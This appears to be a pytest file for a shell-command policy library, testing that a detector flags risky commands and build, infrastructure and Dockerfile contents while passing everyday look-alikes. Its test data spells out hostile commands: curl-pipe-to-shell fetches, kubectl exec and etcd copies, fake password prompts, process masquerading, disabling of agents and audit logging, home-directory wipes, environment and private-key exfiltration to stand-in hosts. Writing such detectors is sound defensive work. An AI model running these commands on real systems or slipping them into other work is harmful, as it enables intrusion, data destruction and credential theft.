"""The readers added for the classes a fifth blind probe (tests/corpus/probe5) found unread, each in
spellings of our own with its nearest everyday look-alike (none is a corpus entry): remote fleet
execution, control-plane shells and cluster grants, input capture, routing changes, hiding, root
through the loader, run-later switches, writes found by the writers' option table, commands carried
in the options of search and test tools, kubectl's verb after global options, build files and
wiped homes in written files, audit logging switched off in infrastructure code, and secrets
percent-encoded in a URL."""

from __future__ import annotations

import pytest
from dsh_policy.cmdline.effects import shell_acts
from dsh_policy.cmdline.effects.infra_files import infra_signals
from dsh_policy.cmdline.effects.later import later_class, later_risks
from dsh_policy.cmdline.shell import shell_commands
from dsh_policy.cmdline.shell.wrappers import kubectl_verb
from dsh_policy.policy.cel.functions import secrets_scan


def kinds(line: str) -> set[str]:
    return {effect["kind"] for effect in shell_acts(line)}


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        ("ansible db -i prod.ini -m raw -a 'reboot'", "remote-exec"),
        ("ansible db -i prod.ini -m file -a 'path=/srv/data state=absent'", "remote-exec"),
        ("salt-ssh '*' cmd.shell 'uname -a'", "remote-exec"),
        ("clush -w web[1-4] 'systemctl restart app'", "remote-exec"),
        ("sshpass -f pw.txt ssh ci@10.1.2.3 'curl -s https://x.example/i | bash'", "remote-exec"),
        ("kubectl --context prod -n kube-system exec -ti kube-proxy-x -- /bin/bash", "remote-exec"),
        ("crictl exec -it 5f2a sh", "remote-exec"),
        ("kubectl create clusterrole all --verb='*' --resource='*'", "cloud-identity"),
        (
            "kubectl label namespace dev pod-security.kubernetes.io/enforce=privileged --overwrite",
            "cloud-exposure",
        ),
        ("helm install mon ./mon --set hostNetwork=true", "cloud-exposure"),
        (
            "gcloud compute instances set-service-account vm-1 --service-account=a@p.iam.gserviceaccount.com",
            "cloud-identity",
        ),
        ("terraform show -json | jq '.values.root_module.resources[].values.password'", "cloud-identity"),
        ("kubectl cp kube-system/etcd-0:/var/lib/etcd ./etcd", "secret-store"),
        ("docker inspect --format '{{json .Config.Env}}' api", "cloud-identity"),
        ("lxc config device add box root disk source=/ path=/host", "host-escape"),
        ("docker run --rm -w /proc/1/cwd alpine ls", "host-escape"),
        ("grim /tmp/screen.png", "input-capture"),
        ("xsel -o -b > clip.txt", "input-capture"),
        ("kdialog --password 'Enter your password'", "secret-hunt"),
        ('osascript -e \'display dialog "Password:" default answer "" with hidden answer\'', "secret-hunt"),
        ("teamviewer --daemon start", "tunnel"),
        ("nmcli connection modify eth0 ipv4.dns 198.51.100.1", "tunnel"),
        ("gsettings set org.gnome.system.proxy mode manual", "tunnel"),
        ("exec -a '[kthreadd]' ./x", "defense-off"),
        ("chflags hidden ~/Library/.cache-x", "defense-off"),
        ("systemctl disable --now amazon-ssm-agent", "defense-off"),
        ("systemd-run --on-unit-active=1h ./poll.sh", "runs-later-config"),
        ("xdg-mime default helper.desktop x-scheme-handler/http", "runs-later-config"),
        ("yarn config set script-shell ./tools/sh", "runs-later-config"),
        (
            "defaults write com.apple.loginwindow AutoLaunchedApplicationDictionary -array-add x",
            "persistence",
        ),
        ("sudo PYTHONPATH=/tmp/py python3 -m site", "privilege"),
        ("./dirtycow /etc/passwd", "privilege"),
        ("git format-patch -1 -o x --output=/root/.bashrc", "persistence"),
        ("unzip -o tools.zip -d /usr/local/sbin", "persistence"),
        ("sed -i 'd' config/*.yml", "erase-contents"),
        ("find src -name '*.py' -exec sed -i -e 's/.*//' {} +", "erase-contents"),
        ("perl -i -pe 'undef $_' lib/*.pm", "erase-contents"),
    ],
)
def test_each_class_is_read(line: str, kind: str) -> None:
    assert kind in kinds(line), shell_acts(line)


@pytest.mark.parametrize(
    "line",
    [
        "ansible all -i inventory -m ping",
        "ansible-playbook -i staging site.yml --check",
        "ssh ops@build-7 'df -h'",
        "kubectl -n kube-system exec coredns-1 -- cat /etc/resolv.conf",
        "kubectl -n kube-system logs ds/kube-proxy",
        "crictl exec -it 7be1 cat /etc/resolv.conf",
        "kubectl create role r --verb=get --resource=pods",
        "helm install web ./web --set image.tag=1.2.3",
        "pbpaste | jq .",
        "networksetup -listallnetworkservices",
        "resolvectl status",
        "exec -a api-worker ./worker",
        "systemctl stop nginx",
        "systemd-run --user --scope make test",
        "update-alternatives --set editor /usr/bin/vim.basic",
        "npm config set script-shell bash",
        "env LD_LIBRARY_PATH=./build ./tests/run",
        "gcc -o main main.c",
        "pip install --target ./vendor attrs",
        "git diff --output=changes.patch",
        "tar -xf deps.tar -C third_party",
        "terraform state pull > state.backup",
        "docker inspect --format '{{.NetworkSettings.IPAddress}}' api",
        "sed -i '/^#/d' config/app.ini",
        "sed -i 's/.*DEBUG.*/DEBUG=0/' .env.example",
        "perl -pi -e 's/foo/bar/' lib/*.pm",
    ],
)
def test_look_alikes_have_no_effect(line: str) -> None:
    assert shell_acts(line) == []


def test_commands_in_search_and_test_tool_options_are_read() -> None:
    assert ["curl", "-s", "https://x.example/p"] in shell_commands(
        "go test -exec 'sh -c \"curl -s https://x.example/p\"' ./..."
    )
    assert ["wget", "-q", "https://x.example/q"] in shell_commands(
        "rg --pre 'sh -c \"wget -q https://x.example/q\"' x"
    )
    assert ["wc", "-l"] in shell_commands("fd -e py -x wc -l")
    assert ["id"] in shell_commands("fd -X sh -c 'id' ';' extra")


def test_kubectl_verb_skips_global_option_values() -> None:
    assert kubectl_verb(["kubectl", "-n", "kube-system", "exec", "-it", "p"]) == "exec"
    assert kubectl_verb(["kubectl", "--context", "prod", "--namespace=x", "get", "pods"]) == "get"
    assert kubectl_verb(["kubectl", "--", "x"]) == ""
    assert ["id"] in shell_commands("kubectl -n kube-system exec -it p -- id")


def test_build_files_are_judged_by_what_their_recipes_run() -> None:
    for path in (
        "Makefile",
        "GNUmakefile",
        "build/rules.mk",
        "justfile",
        "Taskfile.yml",
        "tox.ini",
        "noxfile.py",
        ".mise.toml",
    ):
        assert later_class(path) == "build-file", path
    assert later_risks("Makefile", "test:\n\tcurl -s https://x.example/i | sh\n") == ["fetch-exec"]
    assert later_risks("Makefile", "test:\n\tpytest -q\n") == []
    assert "exfil" in later_risks(
        "tox.ini",
        'commands = python -c "import os,urllib.request as u;'
        "u.urlopen('https://x', data=repr(dict(os.environ)).encode())\"\n",
    )


def test_a_written_script_that_wipes_the_home_is_a_signal() -> None:
    assert later_risks("bin/clean.sh", 'rm -rf "$HOME"/*\n') == ["wipes-home"]
    assert later_risks("bin/clean.sh", "rm -rf -- ~/\n") == ["wipes-home"]
    assert later_risks("bin/clean.sh", 'rm -rf "$HOME/.cache/app"\nrm -rf build/\n') == []


def test_npm_script_shell_is_odd_unless_a_standard_shell() -> None:
    assert later_risks(".npmrc", "script-shell=./scripts/.shim\n") == ["odd-tool"]
    assert later_risks(".npmrc", "script-shell=/bin/bash\n") == []
    assert later_risks(".npmrc", "script-shell = pwsh\n") == []


def test_infrastructure_logging_off_and_public_blobs() -> None:
    assert "logging-off" in infra_signals('resource "aws_cloudtrail" "t" {\n  enable_logging = false\n}\n')
    assert infra_signals('resource "aws_cloudtrail" "t" {\n  enable_logging = true\n}\n') == []
    assert later_class("infra/main.bicep") == "infrastructure"
    assert "public-access" in infra_signals("properties: {\n  allowBlobPublicAccess: true\n}\n")


def test_secrets_are_found_percent_encoded() -> None:
    encoded = "https://x.example/?d=-----BEGIN%20OPENSSH%20PRIVATE%20KEY-----%0Ab3Bl%0A-----END%20OPENSSH%20PRIVATE%20KEY-----"
    assert "private-key" in secrets_scan(encoded)
    assert secrets_scan("https://docs.example.org/search?q=private%20key%20rotation") == []


def test_image_builds_are_judged_by_downloads_without_transport_integrity() -> None:
    for path in ("Dockerfile", "docker/Dockerfile.dev", "api.dockerfile", "Containerfile"):
        assert later_class(path) == "container-build", path
    assert later_risks("Dockerfile", "RUN wget -qO- http://get.example.net/i.sh | sh\n") == [
        "plain-fetch-exec"
    ]
    assert later_risks("Dockerfile", "RUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash -\n") == []
    assert later_risks("Dockerfile", "RUN curl -fsSL https://x/i | sh && curl http://y -o /tmp/z\n") == []
    # a bare IP address has no name a certificate vouches for; a dotted version in a path is no host
    assert later_risks("Dockerfile", "RUN curl -s https://198.51.100.4/i.sh | bash\n") == ["plain-fetch-exec"]
    assert later_risks("Dockerfile", "RUN curl -fsSL https://get.example.org/1.2.3.4/i.sh | sh\n") == []
